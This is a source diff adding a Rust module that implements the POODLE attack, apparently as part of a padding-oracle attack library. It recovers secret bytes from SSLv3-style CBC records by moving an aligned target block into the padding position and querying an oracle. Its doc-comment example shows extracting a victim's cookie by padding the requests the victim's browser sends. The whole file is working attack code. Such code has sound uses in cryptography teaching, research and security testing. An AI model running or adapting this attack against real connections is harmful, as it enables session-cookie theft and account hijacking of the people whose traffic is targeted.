@@ -0,0 +1,110 @@
+//! The POODLE attack, for SSLv3-style paddings which only constrain the last byte.
+
+use alloc::vec::Vec;
+
+use crate::oracle::answer;
+use crate::{Error, PaddingOracle, Result};
+
+/// How many fresh records are tried for a byte before giving up. Each one succeeds with a
+/// probability of 1/256, so an honest oracle fails this about once in ten million bytes.
+const MAX_RECORDS: usize = 4096;
+
+/// A fresh encryption of the secret, laid out for [decrypt_poodle].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AlignedRecord {
+    /// The ciphertext, with the IV prepended. Its last block must be a whole block of padding,
+    /// ending with the padding length `blocksize - 1`.
+    pub ciphertext: Vec<u8>,
+
+    /// Index of the block ending with the secret byte asked for, counting the IV as block `0`.
+    pub block: usize,
+}
+
+/// Recover `len` secret bytes from an SSLv3-style padding oracle, with the POODLE attack.
+///
+/// SSLv3 only checks the last byte of the padding, so the usual attack doesn't work, but an
+/// oracle accepting a record whose last block was replaced by another block tells the last byte of
+/// that block, with a probability of 1/256. The attacker must control the alignment of the
+/// secret, as a script in the victim's browser pads the requests it sends, and have the victim
+/// encrypt it again for every attempt.
+///
+/// `align` is called with the index of the secret byte to recover, and must return a fresh
+/// encryption of the secret where that byte ends a block, see [AlignedRecord]. About 256 records
+/// are needed per byte: the attack fails with [Error::InvalidPadding] if none of 4096 worked.
+/// It also fails with [Error::InvalidBlocksize] if the blocksize can't be padded, and with
+/// [Error::WrongSize] or [Error::InvalidBlock] if a record doesn't fit the blocksize.
+///
+/// # Example
+/// ```no_run
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # fn send_request(path: &str) -> Vec<u8> { vec![0; 64] }
+/// use padding_oracle::AlignedRecord;
+///
+/// // The cookie starts 40 bytes into the request, after the path
+/// let cookie = padding_oracle::decrypt_poodle(16, 32, |byte| {
+///     // Pad the path so this byte of the cookie ends a block
+///     let pad = 15 - (40 + byte) % 16;
+///     AlignedRecord {
+///         ciphertext: send_request(&"A".repeat(pad)),
+///         block: (40 + pad + byte) / 16 + 1,
+///     }
+/// }, oracle);
+/// ```
+pub fn decrypt_poodle(
+    blocksize: usize,
+    len: usize,
+    mut align: impl FnMut(usize) -> AlignedRecord,
+    mut oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    crate::check_blocksize(blocksize)?;
+
+    (0..len)
+        .map(|byte| poodle_byte(blocksize, byte, &mut align, &mut oracle))
+        .collect()
+}
+
+/// A byte of the secret, from as many fresh records as needed
+fn poodle_byte(
+    blocksize: usize,
+    byte: usize,
+    align: &mut impl FnMut(usize) -> AlignedRecord,
+    oracle: &mut impl PaddingOracle,
+) -> Result<u8> {
+    let mut block = 0;
+
+    for _ in 0..MAX_RECORDS {
+        let mut record = align(byte);
+        block = record.block;
+
+        let ciphertext = &mut record.ciphertext;
+        if !ciphertext.len().is_multiple_of(blocksize) {
+            return Err(Error::WrongSize {
+                blocksize,
+                found: ciphertext.len(),
+            });
+        }
+
+        // The target can't be the last block, which gets replaced
+        let blocks = ciphertext.len() / blocksize;
+        if block == 0 || block + 1 >= blocks {
+            return Err(Error::InvalidBlock { block, blocks });
+        }
+
+        let last = ciphertext.len() - blocksize;
+        let target = block * blocksize;
+        ciphertext.copy_within(target..target + blocksize, last);
+
+        // The target decrypts to the padding length, xored with the block before the last one
+        // rather than its own previous block
+        if answer(oracle.query(ciphertext))? {
+            return Ok((blocksize - 1) as u8 ^ ciphertext[last - 1] ^ ciphertext[target - 1]);
+        }
+    }
+
+    Err(Error::InvalidPadding {
+        block,
+        byte: blocksize - 1,
+        queries: MAX_RECORDS,
+        false_positives: 0,
+    })
+}